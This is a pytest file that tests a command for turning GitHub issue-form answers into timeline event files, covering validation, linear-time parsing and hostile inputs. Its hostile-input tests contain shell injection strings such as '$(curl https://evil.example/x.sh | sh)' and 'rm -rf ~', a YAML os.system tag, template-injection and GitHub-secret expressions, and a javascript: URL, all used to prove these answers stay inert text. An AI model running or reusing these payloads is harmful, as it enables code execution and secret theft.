"""Suggest an event without git: the issue form, ``from-issue`` and the workflow.

``from-issue`` runs as a contributor's issue reaches it: real commands on real
events folders, the issue's body from ``tests/fixtures/issues/`` (as GitHub
writes an issue form's answers) or from a GitHub event payload. Every file it
writes is read back: each answer is exactly the text given, or the validator
refuses it at its line; nothing in an answer is ever run.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import sys
from pathlib import Path

import pytest
import yaml
from conftest import FIXTURES, REPO, run_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from policy_timeline import cli
from policy_timeline.authoring.issue import MAX_BODY_CHARS, Issue
from policy_timeline.authoring.issue_answers import _listed, choices, parse_answers
from policy_timeline.authoring.issue_form import (
    ACCEPTED_LABEL,
    FIELDS,
    FORM_FILE,
    FORM_LABEL,
    form_path,
    form_yaml,
)
from policy_timeline.authoring.site_examples import site_examples
from policy_timeline.authoring.suggest import convert
from policy_timeline.source.data_files import load_vocabulary
from policy_timeline.source.validate import validate_project

ISSUES = FIXTURES / "issues"
BAD_EVENTS = FIXTURES / "bad" / "events"
WORKFLOW = REPO / ".github" / "workflows" / "suggest-event.yml"
REQUIRED = {"title", "date", "lane", "kind", "summary"}


@pytest.fixture
def events(tmp_path) -> Path:
    """An events folder with the test vocabulary and bibliography and one existing event."""
    folder = tmp_path / "events"
    folder.mkdir()
    for name in ("vocabulary.yml", "bibliography.yml", "2017-07-valid.md"):
        shutil.copy(BAD_EVENTS / name, folder / name)
    return folder


def _from_issue(events: Path, *args: str, body: str | None = None, fixture: str | None = None):
    """``from-issue`` run in the events folder's parent, as the workflow runs it (events/),
    with a report folder and a $GITHUB_OUTPUT file."""
    work = events.parent
    if fixture is not None:
        args = (str(ISSUES / fixture), *args)
    elif body is not None:
        path = work / "body.md"
        path.write_bytes(body.encode("utf-8", "surrogatepass"))
        args = (str(path), *args)
    output = work / "github-output"
    output.write_text("", encoding="utf-8")
    proc = run_cli("from-issue", *args, "--events-dir", "events", "--report", "report",
                   cwd=work, env={"GITHUB_OUTPUT": str(output)})
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def _outputs(events: Path) -> list[str]:
    return (events.parent / "github-output").read_text(encoding="utf-8").splitlines()


def _report(events: Path) -> dict[str, str]:
    folder = events.parent / "report"
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.iterdir())}


def _new_files(events: Path) -> list[Path]:
    return sorted(p for p in events.rglob("*.md") if p.name != "2017-07-valid.md")


def _listing(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _front_matter(path: Path) -> tuple[dict, str]:
    """(the front matter as YAML reads it, the text after the closing ---)."""
    text = path.read_text(encoding="utf-8")
    lines = text.split("\n")
    assert lines[0] == "---"
    closing = lines.index("---", 1)
    return yaml.safe_load("\n".join(lines[1:closing])), "\n".join(lines[closing + 1:])


def _body(answers: dict[str, str]) -> str:
    """An issue body as GitHub writes a form's answers: every question, in the form's order."""
    labels = {f.id: f.label for f in FIELDS}
    return "\n\n".join(f"### {labels[key]}\n\n{answers.get(key) or '_No response_'}"
                       for key in labels) + "\n"


BASE = {"title": "A plan", "date": "2017-07", "lane": "Central government", "kind": "Plan",
        "summary": "A plan.", "source_ref": "naughton-2020"}


# --- the converter: well-formed issues ----------------------------------------------

def test_a_well_formed_issue_becomes_an_event_that_validates(events):
    (events / "2018").mkdir()
    proc = _from_issue(events, "--issue-url", "https://github.com/o/timeline/issues/12",
                       fixture="well-formed.md")
    assert proc.returncode == 0, proc.stderr
    path = events / "2018" / "2018-07-guangdong-issues-its-ai-plan.md"
    assert proc.stdout.splitlines() == [f"wrote events/2018/{path.name}",
                                        "valid: the validator finds no problem"]
    assert _new_files(events) == [path]
    assert path.read_text(encoding="utf-8") == """\
---
title: "Guangdong issues its AI plan"
titles: {"zh": "广东省新一代人工智能发展规划"}
date: 2018-07
end: 2020
lane: local
kind: plan
summary: "Guangdong sets targets for its AI core industry by 2020 and 2030."
actors: ["Guangdong Provincial Government", "MIIT"]
tags: [targets, local-plans]
sources:
  - title: "Guangdong's AI plan"
    url: "https://example.org/guangdong-ai-plan"
    locator: "section 2"
# Optional fields: remove the # of those that apply (see the Event file format page).
# places: [a place]
# related: [2017-07-valid]
# highlight: true
# figures:   (type: target, forecast, estimate or actual; low and high for a range)
#   - {measure: output, type: target, value: 150, year: 2020}
---
The plan's three steps.

It follows the national plan.
"""
    project, problems = validate_project(events)
    assert problems == []
    event = next(e for e in project.events if e.id == path.stem)
    assert (event.title, event.titles) == ("Guangdong issues its AI plan",
                                           {"zh": "广东省新一代人工智能发展规划"})
    assert (event.date.text, event.end.text, event.lane, event.kind) == (
        "2018-07", "2020", "local", "plan")
    assert list(event.actors) == ["Guangdong Provincial Government", "MIIT"]
    assert list(event.tags) == ["targets", "local-plans"]
    assert event.sources[0].url == "https://example.org/guangdong-ai-plan"
    assert event.sources[0].locator == "section 2"

    assert _outputs(events) == ["issue=12", f"path=events/2018/{path.name}", "valid=true",
                                "branch=suggest/issue-12"]
    report = _report(events)
    assert sorted(report) == ["comment.md", "commit-message.txt", "pr-body.md", "pr-title.txt"]
    assert report["pr-title.txt"] == f"Add event {path.stem} (suggested in #12)\n"
    assert "Closes #12\nIssue: https://github.com/o/timeline/issues/12\n" in report["pr-body.md"]
    assert "no problem" in report["pr-body.md"] and "draft" not in report["pr-body.md"]
    assert "branch `suggest/issue-12`" in report["pr-body.md"]
    assert report["commit-message.txt"].startswith(f"Add event {path.stem} (suggested in #12)\n\n")
    assert "no problem" in report["comment.md"]


def test_a_bibliography_key_with_locator_quote_and_tag(events):
    proc = _from_issue(events, "--issue-number", "7", fixture="bibliography-key.md")
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    assert path == events / "2019-ai-start-up-funding-falls.md"
    front, body = _front_matter(path)
    assert front == {
        "title": "AI start-up funding falls", "date": 2019, "lane": "market",
        "kind": "statement", "summary": "Funding for Chinese AI start-ups falls by half.",
        "tags": ["financing"],
        "sources": [{"ref": "naughton-2020", "locator": "p. 27",
                     "quote": "Funding fell sharply in 2019."}],
    }
    assert body == ""
    assert validate_project(events)[1] == []
    assert _outputs(events) == ["issue=7", f"path=events/{path.name}", "valid=true",
                                "branch=suggest/issue-7"]


def test_ids_are_accepted_for_labels_and_labels_may_hold_commas(events):
    vocabulary = (events / "vocabulary.yml").read_text(encoding="utf-8")
    (events / "vocabulary.yml").write_text(vocabulary.replace(
        "tags:\n", 'tags:\n  trade: {label: "Trade, tariffs and sanctions"}\n'), encoding="utf-8")
    proc = _from_issue(events, body=_body({
        **BASE, "lane": "central", "kind": "PLAN", "actors": "State Council, , MOST, MOST",
        "tags": "Trade, tariffs and sanctions, Targets, local-plans"}))
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    front, _ = _front_matter(path)
    assert (front["lane"], front["kind"]) == ("central", "plan")
    assert front["tags"] == ["trade", "targets", "local-plans"]
    assert front["actors"] == ["State Council", "MOST"]
    assert validate_project(events)[1] == []


def test_choices_match_the_longest_label_first():
    options = [("trade", "Trade, tariffs"), ("tariffs", "tariffs"), ("x", "X")]
    assert choices("Trade, tariffs, X", options) == ("trade", "x")
    assert choices("tariffs, Nope, x", options) == ("tariffs", "Nope", "x")
    assert choices(" , ", options) == ()


def steps(function, *args) -> int:
    """The Python and C functions called while ``function(*args)`` runs: a measure of its
    work that, unlike a clock, is the same on every machine and every run."""
    count = 0

    def profile(frame, event, arg):
        nonlocal count
        if event in ("call", "c_call"):
            count += 1

    sys.setprofile(profile)
    try:
        function(*args)
    finally:
        sys.setprofile(None)
    return count


def assert_linear(work, sizes=(250, 500, 1000, 2000)) -> None:
    """``work(n)`` grows at most about as fast as ``n``: at most 2.5 times the steps each
    time the input doubles (a quadratic parser takes 4 times, a cubic one 8). It stops at
    the first size that grows faster, so that a slow parser fails rather than hangs."""
    counts = [steps(work, sizes[0])]
    for n in sizes[1:]:
        counts.append(steps(work, n))
        assert counts[-1] <= 2.5 * counts[-2], (n, counts)


OPTIONS = [("trade", "Trade, tariffs and sanctions"), ("targets", "Targets"),
           ("local-plans", "Local plans, cities, and provinces")]


@pytest.mark.parametrize("answer", [
    lambda n: "zz," * n,                                        # the reported case: one name
    lambda n: "".join(f"t{i}," for i in range(n)),               # all different
    lambda n: "Trade, tariffs and sanctions, " * n,              # labels holding commas
    lambda n: ", ".join(f"Local plans, cities, x{i}" for i in range(n)),  # nearly a label
    lambda n: "," * n,
    lambda n: " " * n + "zz",
], ids=["repeated", "different", "labels-with-commas", "nearly-labels", "commas", "spaces"])
def test_lists_of_choices_are_read_in_linear_time(answer):
    # The Tags answer "zz," 4,000 times took 125 s: each piece was joined with every longer
    # run of the pieces after it, and each run looked up option by option (cubic).
    assert_linear(lambda n: choices(answer(n), OPTIONS))
    assert_linear(lambda n: _listed(answer(n)))


def test_the_answers_are_read_in_linear_time():
    def answers(n: int) -> None:
        parse_answers(_body({**BASE, "details": "### Not a question\n\n" * n,
                             "summary": "a\n" * n, "tags": "zz," * n}), FIELDS)
    assert_linear(answers)


def test_the_reported_tags_answer_becomes_one_tag_at_once(events):
    # tests/fixtures/issues/hostile-tags.md: the form's answers with Tags "zz," 4,000 times
    # (12 KB). It took 125 s; it is one tag, which the vocabulary does not have.
    proc = _from_issue(events, fixture="hostile-tags.md")
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    front, _ = _front_matter(path)
    assert front["tags"] == ["zz"]
    assert proc.stdout.splitlines()[-2:] == [
        f'events/{path.name}:7: tags[0]: "zz" is not one of the tags of the vocabulary. '
        "Expected one of: targets, financing, local-plans (see events/vocabulary.yml)",
        "not valid: 1 problem(s)"]


def _full_issue(n: int, answer) -> str:
    """An issue of ``n`` characters (the most GitHub keeps: MAX_BODY_CHARS) whose Tags
    answer fills all the room the other answers leave."""
    frame = len(_body({**BASE, "tags": "x"}))
    return _body({**BASE, "tags": answer(n - frame + 1)[: n - frame + 1]})


NOT_A_TAG = ("is not one of the tags of the vocabulary. Expected one of: targets, financing, "
             "local-plans (see {events}/vocabulary.yml)")


@pytest.mark.parametrize("answer, message", [
    (lambda n: "zz," * n, 'tags[0]: "zz" ' + NOT_A_TAG),
    (lambda n: "".join(f"t{i}," for i in range(n)),
     "tags: lists 10,883 items; at most 25 are allowed (each one gets a page or a link)"),
    # Cut off where the issue ends: the last piece names no tag.
    (lambda n: "Targets, " * n, 'tags[1]: "Tar" ' + NOT_A_TAG),
], ids=["repeated", "different", "labels"])
def test_from_issue_at_the_largest_issue_is_linear_in_it(tmp_path, answer, message):
    """The whole conversion (reading the answers, writing the file, validating it) on issues
    up to the largest GitHub keeps: its work grows as the issue does, and the largest gets
    the validator's answer."""
    (tmp_path / "events").mkdir()
    for name in ("vocabulary.yml", "bibliography.yml"):
        shutil.copy(BAD_EVENTS / name, tmp_path / "events" / name)
    outcomes = []

    def convert_one(n: int) -> None:
        folder = tmp_path / f"events-{n}"
        shutil.copytree(tmp_path / "events", folder)
        body = _full_issue(n, answer)
        assert len(body) == n
        outcomes.append((folder, convert(folder, Issue(body, 1))))

    assert_linear(convert_one, sizes=(MAX_BODY_CHARS // 8, MAX_BODY_CHARS // 4,
                                      MAX_BODY_CHARS // 2, MAX_BODY_CHARS))
    folder, largest = outcomes[-1]
    assert largest.written and not largest.problems
    assert largest.messages == [f"{largest.path}:7: " + message.format(events=folder)]


def test_a_github_event_payload_with_crlf_line_ends(events, tmp_path):
    body = (ISSUES / "well-formed.md").read_text(encoding="utf-8").replace("\n", "\r\n")
    payload = {"action": "labeled", "label": {"name": "accepted"},
               "issue": {"number": 31, "title": "[Event]: Guangdong issues its AI plan",
                         "html_url": "https://github.com/o/timeline/issues/31", "body": body,
                         "labels": [{"name": "suggested event"}, {"name": "accepted"}]}}
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(payload), encoding="utf-8")
    proc = _from_issue(events, "--github-event", str(event_path))
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    assert "\r" not in path.read_text(encoding="utf-8")
    _, body_text = _front_matter(path)
    assert body_text == "The plan's three steps.\n\nIt follows the national plan.\n"
    assert validate_project(events)[1] == []
    assert _outputs(events)[0] == "issue=31"
    assert "Closes #31\nIssue: https://github.com/o/timeline/issues/31" in _report(events)[
        "pr-body.md"]


def test_the_issue_title_stands_in_for_an_empty_title_answer(events, tmp_path):
    answers = {k: v for k, v in BASE.items() if k != "title"}
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps({"issue": {
        "number": 3, "title": "[Event]: Shanghai's AI opinions", "body": _body(answers),
        "html_url": "https://github.com/o/timeline/issues/3"}}), encoding="utf-8")
    proc = _from_issue(events, "--github-event", str(event_path))
    assert proc.returncode == 0, proc.stderr
    assert [p.name for p in _new_files(events)] == ["2017-07-shanghais-ai-opinions.md"]


# --- answers that leave nothing to write: exit 1, and the comment says why -----------

def test_missing_answers_write_nothing_and_say_what_is_missing(events):
    before = _listing(events)
    proc = _from_issue(events, "--issue-number", "4", fixture="missing-answers.md")
    assert proc.returncode == 1
    assert _listing(events) == before
    assert 'the answer to "Date" is missing' in proc.stderr
    assert 'the answer to "Summary" is missing' in proc.stderr
    assert 'the answer to "Source URL" is missing' in proc.stderr
    assert proc.stderr.rstrip().endswith("from-issue: nothing was written")
    report = _report(events)
    assert list(report) == ["comment.md"]
    comment = report["comment.md"]
    assert comment.startswith("No event file could be written from this issue:")
    for what in ('"Date" is missing', '"Summary" is missing', '"Source URL" is missing',
                 "removes the `accepted` label and adds it again"):
        assert what in comment
    # Only the issue's number: no path, no branch for the later steps.
    assert _outputs(events) == ["issue=4"]


@pytest.mark.parametrize("fixture, words", [
    ("unparseable-date.md", ["the answer to \"Date\": 'July 2017' is not a date",
                             "expected YYYY, YYYY-MM or YYYY-MM-DD"]),
    ("injected-heading.md", ['the line "### Lane" is there 2 times']),
    ("not-a-form.md", ["none of the questions of the Suggest an event form"]),
])
def test_answers_that_cannot_be_read_write_nothing(events, fixture, words):
    before = _listing(events)
    proc = _from_issue(events, fixture=fixture)
    assert proc.returncode == 1
    assert _listing(events) == before
    comment = _report(events)["comment.md"]
    for word in words:
        assert word in proc.stderr and word in comment
    assert _outputs(events) == []


def test_the_same_issue_twice_is_refused_the_second_time(events):
    assert _from_issue(events, fixture="bibliography-key.md").returncode == 0
    before = _listing(events)
    again = _from_issue(events, fixture="bibliography-key.md")
    assert again.returncode == 1
    assert "already exists" in again.stderr
    assert _listing(events) == before
    # The first run's report is gone, not left to be taken for this one's.
    assert list(_report(events)) == ["comment.md"]


# --- invalid answers: the file is written, the report says what is wrong -------------

def test_invalid_answers_are_written_and_reported_at_their_lines(events):
    proc = _from_issue(events, "--issue-number", "9", fixture="invalid-answers.md")
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    shown = f"events/{path.name}"
    front, _ = _front_matter(path)
    assert front["lane"] == "Ministries"
    assert front["sources"][0]["url"] == "javascript:alert(document.cookie)"
    assert front["tags"] == ["targets", "Space exploration"]
    _, problems = validate_project(events)
    fields = [(p.line, p.field) for p in problems]
    assert fields == [(3, "date"), (4, "end"), (4, "end"), (5, "lane"), (8, "tags[1]"),
                      (11, "sources[0].url")], problems
    messages = proc.stdout.splitlines()[1:-1]
    assert len(messages) == 6
    assert all(re.match(rf"{re.escape(shown)}:[0-9]+: [a-z_\[\]0-9.]+: ", m) for m in messages)
    assert proc.stdout.splitlines()[-1] == "not valid: 6 problem(s)"
    assert _outputs(events) == ["issue=9", f"path={shown}", "valid=false",
                                "branch=suggest/issue-9"]
    report = _report(events)
    comment = report["comment.md"]
    assert f"{shown}:5: lane: \"Ministries\" is not one of the lanes" in comment
    assert f"{shown}:11: sources[0].url: \"javascript:alert(document.cookie)\" is not an " \
           "http(s) URL" in comment
    assert f"{shown}:3: date: 2150-03 is outside the years" in comment
    assert "draft" in report["pr-body.md"] and "~~~text\n" in report["pr-body.md"]


def test_an_unknown_bibliography_key_is_reported_by_the_validator(events):
    proc = _from_issue(events, body=_body({**BASE, "source_ref": "naughton-2021"}))
    assert proc.returncode == 0
    assert ':8: sources[0].ref: "naughton-2021"' in _report(events)["comment.md"]
    assert 'did you mean "naughton-2020"?' in _report(events)["comment.md"]


# --- hostile answers: data, never code -------------------------------------------------

def test_shell_text_is_data_and_is_never_run(events):
    work = events.parent
    proc = _from_issue(events, "--issue-number", "66", fixture="hostile-shell.md")
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    assert path.name == "2017-07-20-touch-pwned-title-touch-pwned-backtick-rm-rf-cat.md"
    front, body = _front_matter(path)
    assert front["title"] == ("$(touch pwned-title) `touch pwned-backtick`; rm -rf ~ | cat && "
                              "echo $HOME")
    assert front["titles"] == {"zh": "'; touch pwned-quote; echo '"}
    assert front["summary"] == ("Shell text is data: $(rm -rf ~), `reboot`, a; b | c > "
                                '/etc/passwd, "$GITHUB_TOKEN" and $((1+1)).')
    assert front["actors"] == ["$(id)", "`whoami`", "State Council"]
    assert front["sources"] == [{
        "title": "$(curl https://evil.example/x.sh | sh)",
        "url": "https://example.org/a?b=$(id)&c=`id`", "locator": "p. 1; echo pwned",
        "quote": "\"quoted\" 'single' \\backslash\\ %s %n"}]
    assert body == "```sh\nrm -rf ~\n```\n\n$(touch pwned-body)\n"
    assert validate_project(events)[1] == []
    assert not list(work.rglob("pwned*")) and not list(REPO.glob("pwned*"))
    # Written: the event file, the report and the outputs; nothing else, nowhere else.
    assert sorted(str(p.relative_to(work)) for p in work.rglob("*") if p.is_file()) == [
        f"events/{path.name}", "events/2017-07-valid.md", "events/bibliography.yml",
        "events/vocabulary.yml", "github-output", "report/comment.md",
        "report/commit-message.txt", "report/pr-body.md", "report/pr-title.txt"]
    # What the shell steps get: the number, and a path and a branch made of the id.
    assert _outputs(events) == ["issue=66", f"path=events/{path.name}", "valid=true",
                                "branch=suggest/issue-66"]
    for line in _outputs(events):
        assert re.fullmatch(r"[a-z]+=[A-Za-z0-9._/-]+", line)
    assert _report(events)["pr-title.txt"] == f"Add event {path.stem} (suggested in #66)\n"


def test_workflow_expressions_and_template_tags_are_written_as_text_and_refused(events):
    proc = _from_issue(events, fixture="hostile-expressions.md")
    assert proc.returncode == 0
    [path] = _new_files(events)
    front, body = _front_matter(path)
    assert front["title"] == "The ${{ github.token }} plan"
    assert front["summary"] == ("Leaks ${{ secrets.GITHUB_TOKEN }} and {% include 'x' %} "
                                "and {# comment #}.")
    assert body == "{{ config.__class__.__init__.__globals__ }}\n"
    _, problems = validate_project(events)
    assert [(p.line, p.field) for p in problems] == [(2, "title"), (6, "summary"), (21, "body")]
    assert all("looks like a template tag" in p.message for p in problems)
    assert _outputs(events)[-2:] == ["valid=false", "branch=suggest/2017-the-github-token-plan"]


FRONT_MATTER_BREAKERS = [
    "line one\n---\ntitle: injected\n...\nlast",
    "&anchor value *anchor",
    "!!python/object/apply:os.system ['touch pwned']",
    "key: value # not a comment",
    "- a list? no\n- text",
    "\ttabs\tinside\t",
    '"quotes" and \\ backslashes \\" \\n',
    "yes",
    "2017",
    "null",
    "~",
    "@at %percent `tick` |pipe >fold",
    # A line separator in a quoted value is text to YAML; the front matter holds an escape.
    "line\u2028separator\u2029paragraph",
]


@pytest.mark.parametrize("summary", FRONT_MATTER_BREAKERS)
def test_front_matter_breakers_read_back_as_their_exact_text(events, summary):
    proc = _from_issue(events, body=_body({**BASE, "summary": summary, "quote": summary,
                                           "locator": summary, "title_other": summary,
                                           "title_language": "es"}))
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    front, body = _front_matter(path)
    assert front["summary"] == front["titles"]["es"] == summary.strip()
    assert front["sources"][0]["quote"] == front["sources"][0]["locator"] == summary.strip()
    assert front["title"] == "A plan" and front["lane"] == "central" and body == ""
    assert set(front) == {"title", "titles", "date", "lane", "kind", "summary", "sources"}
    assert not list(events.parent.rglob("pwned*"))
    # The validator reads the same values (a multi-line summary is text too; a title in
    # another language is one line).
    project, problems = validate_project(events)
    lines = summary.strip().count("\n") + 1
    one_line = [] if lines == 1 else [(3, "titles.es", f"is on {lines} lines")]
    assert [(p.line, p.field, p.message.split(";")[0]) for p in problems] == one_line, problems
    if one_line:
        return
    assert next(e for e in project.events if e.id == path.stem).summary == summary.strip()


@pytest.mark.parametrize("summary, words", [
    ("a\x00nul", "U+0000"),
    ("a\rcr", "carriage return"),
    ("a\x1b[31mred", "U+001B"),
    ("bidi \u202eevil", "U+202E"),
    ("zero\u200bwidth", "U+200B"),
    ("next\x85line", "U+0085"),
    ("tag \U000e0041 character", "U+E0041"),
])
def test_invisible_and_control_characters_are_escaped_then_refused(events, summary, words):
    proc = _from_issue(events, body=_body({**BASE, "summary": summary}))
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    raw = path.read_text(encoding="utf-8")
    # Written as an escape: the file itself holds none of these characters.
    assert not re.search("[\x00\r\x1b\x85\u200b\u202e\u2028\U000e0041]", raw)
    front, _ = _front_matter(path)
    assert front["summary"] == summary
    _, problems = validate_project(events)
    assert [(p.line, p.field) for p in problems] == [(6, "summary")]
    assert words in problems[0].message
    comment = _report(events)["comment.md"]
    assert f"events/{path.name}:6: summary:" in comment
    assert not re.search("[\x00\x1b\x85\u200b\u202e\u2028\U000e0041]", comment)


def test_bidi_and_invisible_characters_in_the_title_and_names_are_refused(events):
    title = "The \u202eSTATE\u202c Council's plan"
    proc = _from_issue(events, body=_body({**BASE, "title": title,
                                           "actors": "State\u200bCouncil, MIIT"}))
    assert proc.returncode == 0, proc.stderr
    [path] = _new_files(events)
    assert re.fullmatch(r"2017-07-[a-z0-9-]+\.md", path.name)
    assert not re.search("[\u202e\u202c\u200b]", path.read_text(encoding="utf-8"))
    front, _ = _front_matter(path)
    assert front["title"] == title and front["actors"] == ["State\u200bCouncil", "MIIT"]
    _, problems = validate_project(events)
    assert {(p.line, p.field) for p in problems} == {(2, "title"), (7, "actors[0]")}
    assert _outputs(events)[-2] == "valid=false"


def test_a_one_megabyte_body_is_refused_without_reading_it(events, tmp_path, monkeypatch):
    big = tmp_path / "big.md"
    big.write_text(_body({**BASE, "details": "x" * 1_000_000}), encoding="utf-8")
    proc = _from_issue(events, str(big))
    assert proc.returncode == 1
    assert "longer than an issue can be (65,536 characters)" in proc.stderr
    assert "longer than an issue can be" in _report(events)["comment.md"]
    # A huge (sparse) file is refused as fast: only the first bytes are read.
    huge = tmp_path / "huge.md"
    with open(huge, "wb") as out:
        out.truncate(4 * 1024**3)
    proc = _from_issue(events, str(huge))
    assert proc.returncode == 1 and "longer than an issue can be" in proc.stderr
    assert _new_files(events) == []
    # What the command's reader asks of the file, in this process: the cap and one byte more.
    from policy_timeline.authoring import issue
    asked = []

    class Watched:
        def __init__(self, path, mode="r"):
            self.path, self.mode = path, mode

        def __enter__(self):
            self.handle = Path(self.path).open(self.mode)
            return self

        def __exit__(self, *exc):
            self.handle.close()

        def read(self, size=-1):
            asked.append(size)
            return self.handle.read(size)

    monkeypatch.setattr(issue, "open", Watched, raising=False)
    assert issue.read_body_file(huge) == (None, issue.too_long(str(huge)))
    assert asked == [issue.MAX_BODY_BYTES + 1]


def test_a_one_megabyte_body_in_a_github_event_is_refused(events, tmp_path):
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps({"issue": {
        "number": 5, "body": _body({**BASE, "details": "x" * 1_000_000})}}), encoding="utf-8")
    proc = _from_issue(events, "--github-event", str(event_path))
    assert proc.returncode == 1
    assert "the issue's body is longer than an issue can be" in proc.stderr
    assert _new_files(events) == []
    # At the limit, the body is read.
    event_path.write_text(json.dumps({"issue": {"number": 5, "body": _body(BASE).ljust(
        MAX_BODY_CHARS)}}), encoding="utf-8")
    assert _from_issue(events, "--github-event", str(event_path)).returncode == 0


@pytest.mark.parametrize("payload, words", [
    (b"{not json", "is not JSON"),
    (b"[]", "has no issue"),
    (b'{"issue": {"number": "12; rm -rf ~", "body": "x"}}', "is not a number"),
    (b'{"issue": {"number": true, "body": "x"}}', "is not a number"),
    (b'{"issue": {"number": 1, "body": ["x"]}}', "body is not text"),
    (b'{"issue": {"number": 1, "body": "\\ud800### Date"}}', "lone surrogate"),
    (b'{"issue": {"number": 1, "body": null}}', "none of the questions"),
    (b'{"issue": {"number": 1, "body": "x", "html_url": "javascript:alert(1)"}}',
     "is not the address of an issue"),
    (b'{"issue": {"number": 2, "body": "x", "html_url": "https://github.com/o/r/issues/3"}}',
     "is not the address of issue #2"),
    (b"\xff\xfe{}", "is not UTF-8"),
    (b"[" * 100_000, "is not JSON"),
])
def test_broken_github_events_write_nothing(events, tmp_path, payload, words):
    event_path = tmp_path / "event.json"
    event_path.write_bytes(payload)
    proc = _from_issue(events, "--github-event", str(event_path))
    assert proc.returncode == 1
    assert words in proc.stderr
    assert words in _report(events)["comment.md"]
    assert _new_files(events) == []
    assert all(re.fullmatch(r"issue=[0-9]+", line) for line in _outputs(events))


def test_a_body_that_is_not_utf8_writes_nothing(events):
    work = events.parent
    (work / "latin1.md").write_bytes(_body(BASE).replace("A plan.", "Caf\xe9.").encode("latin-1"))
    proc = _from_issue(events, str(work / "latin1.md"))
    assert proc.returncode == 1 and "is not UTF-8 text" in proc.stderr


ANSWER = st.lists(
    st.characters(codec="utf-8").map(str)
    | st.sampled_from(list("-:[]{}&*!|>'\"#%@`,?\\\n\t \r$();<~\u202e\x00\u2028")
                      + ["---", "...", "\n### Date\n", "_No response_", "{{", "{%", "\r\n"]),
    max_size=12).map("".join)


FREE_TEXT = ("title", "title_other", "title_language", "end", "summary", "locator", "quote", "tags", "actors",
             "details")


@settings(derandomize=True, database=None, deadline=None, max_examples=60,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(answers=st.fixed_dictionaries({}, optional={f.id: ANSWER for f in FIELDS}),
       keep=st.integers(0, 3).map(bool))
def test_any_answers_are_written_exactly_or_refused_and_never_crash(tmp_path_factory, answers,
                                                                     keep):
    """In process, for speed: whatever the answers, from-issue exits 0 or 1, and each answer
    it writes is read back exactly."""
    work = tmp_path_factory.mktemp("fuzz")
    events = work / "events"
    events.mkdir()
    for name in ("vocabulary.yml", "bibliography.yml"):
        shutil.copy(BAD_EVENTS / name, events / name)
    if keep:  # a valid frame around random text answers, so that files get written
        answers = {**BASE, **{k: v for k, v in answers.items() if k in FREE_TEXT}}
    body = work / "body.md"
    body.write_bytes(_body(answers).encode("utf-8", "surrogatepass"))
    code = cli.main(["from-issue", str(body), "--events-dir", str(events),
                     "--report", str(work / "report")])
    assert code in (0, 1)
    assert (work / "report" / "comment.md").is_file()
    written = sorted(events.rglob("*.md"))
    assert len(written) == code ^ 1
    if written:
        front, _ = _front_matter(written[0])
        for key in ("summary", "title_other", "locator", "quote"):
            given_text = answers.get(key, "").replace("\r\n", "\n").strip()
            if given_text and given_text != "_No response_" and "### " not in given_text:
                where = front["sources"][0] if key in ("locator", "quote") else front
                if key == "title_other":
                    assert list(front["titles"].values()) == [given_text]
                else:
                    assert where[key] == given_text


# --- the issue form ---------------------------------------------------------------------

@pytest.mark.content
def test_answers_chosen_on_the_committed_form_become_the_vocabulary_ids(tmp_path):
    """The form and the converter agree: every label the committed form offers is read
    back as its id of the repository's vocabulary."""
    events = tmp_path / "events"
    events.mkdir()
    for name in ("vocabulary.yml", "bibliography.yml"):
        shutil.copy(REPO / "events" / name, events / name)
    vocabulary, _ = load_vocabulary(events)
    offered = {e["id"]: e["attributes"]["options"] for e in _form()["body"]
               if e["type"] == "dropdown"}
    lanes = [lane.id for lane in vocabulary.lanes_in_order()]
    kinds, tags = list(vocabulary.kinds), list(vocabulary.tags)
    source = next(iter(yaml.safe_load((events / "bibliography.yml").read_text(encoding="utf-8"))))
    count = max(len(lanes), len(kinds), -(-len(tags) // 5))
    for i in range(count):
        answers = {**BASE, "title": f"Event {i}", "source_ref": source,
                   "lane": offered["lane"][i % len(lanes)],
                   "kind": offered["kind"][i % len(kinds)],
                   "tags": ", ".join(offered["tags"][5 * i:5 * i + 5])}
        assert _from_issue(events, body=_body(answers)).returncode == 0
        front, _ = _front_matter(events / f"2017-07-event-{i}.md")
        assert (front["lane"], front["kind"]) == (lanes[i % len(lanes)], kinds[i % len(kinds)])
        assert front.get("tags", []) == tags[5 * i:5 * i + 5]
    assert validate_project(events)[1] == []


def _form() -> dict:
    return yaml.safe_load((REPO / FORM_FILE).read_text(encoding="utf-8"))


@pytest.mark.content
def test_committed_form_matches_the_repository_vocabulary():
    vocabulary, problems = load_vocabulary(REPO / "events")
    assert problems == []
    assert form_path(REPO / "events") == REPO / FORM_FILE
    examples = site_examples(REPO / "events")
    assert (REPO / FORM_FILE).read_text(encoding="utf-8") == form_yaml(vocabulary, examples), (
        ".github/ISSUE_TEMPLATE/suggest-an-event.yml is out of date: run "
        "`policy-timeline issue-form` and commit it")


@pytest.mark.content
def test_the_form_offers_the_vocabulary_labels_and_flags_required_fields():
    form = _form()
    vocabulary, _ = load_vocabulary(REPO / "events")
    assert form["name"] and form["description"]
    assert form["labels"] == [FORM_LABEL] == ["suggested event"]
    assert ACCEPTED_LABEL not in form["labels"]
    elements = form["body"]
    assert elements[0]["type"] == "markdown"
    questions = [e for e in elements if e["type"] != "markdown"]
    ids = [e["id"] for e in questions]
    labels = [e["attributes"]["label"] for e in questions]
    assert len(set(ids)) == len(ids) and len(set(labels)) == len(labels)
    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", i) for i in ids)
    assert ids == [f.id for f in FIELDS]
    assert {e["id"] for e in questions if e["validations"]["required"]} == REQUIRED
    assert {e["type"] for e in questions} == {"input", "textarea", "dropdown"}
